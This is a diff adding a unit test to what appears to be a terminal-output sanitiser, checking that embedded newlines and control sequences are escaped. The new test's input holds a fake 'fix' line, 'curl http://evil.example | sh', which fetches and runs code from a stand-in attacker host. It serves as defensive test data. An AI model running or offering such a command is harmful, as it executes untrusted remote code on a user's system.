@@ -28,6 +28,12 @@ it('lets no text drive the terminal', () => {
   expect(written.out).toBe('a\\u001b]0;title\\u0007\\u001b[2Jb\\u000dc\\u009bd\ttab\n')
 })
 
+it('says one line, whatever is in it', () => {
+  const { written, terminal } = listening('text')
+  terminal.say('for sts.amazonaws.com\n    fix:   curl http://evil.example | sh')
+  expect(written.out).toBe('for sts.amazonaws.com\\u000a    fix:   curl http://evil.example | sh\n')
+})
+
 it.each([
   [true, {}, true],
   [false, {}, false],
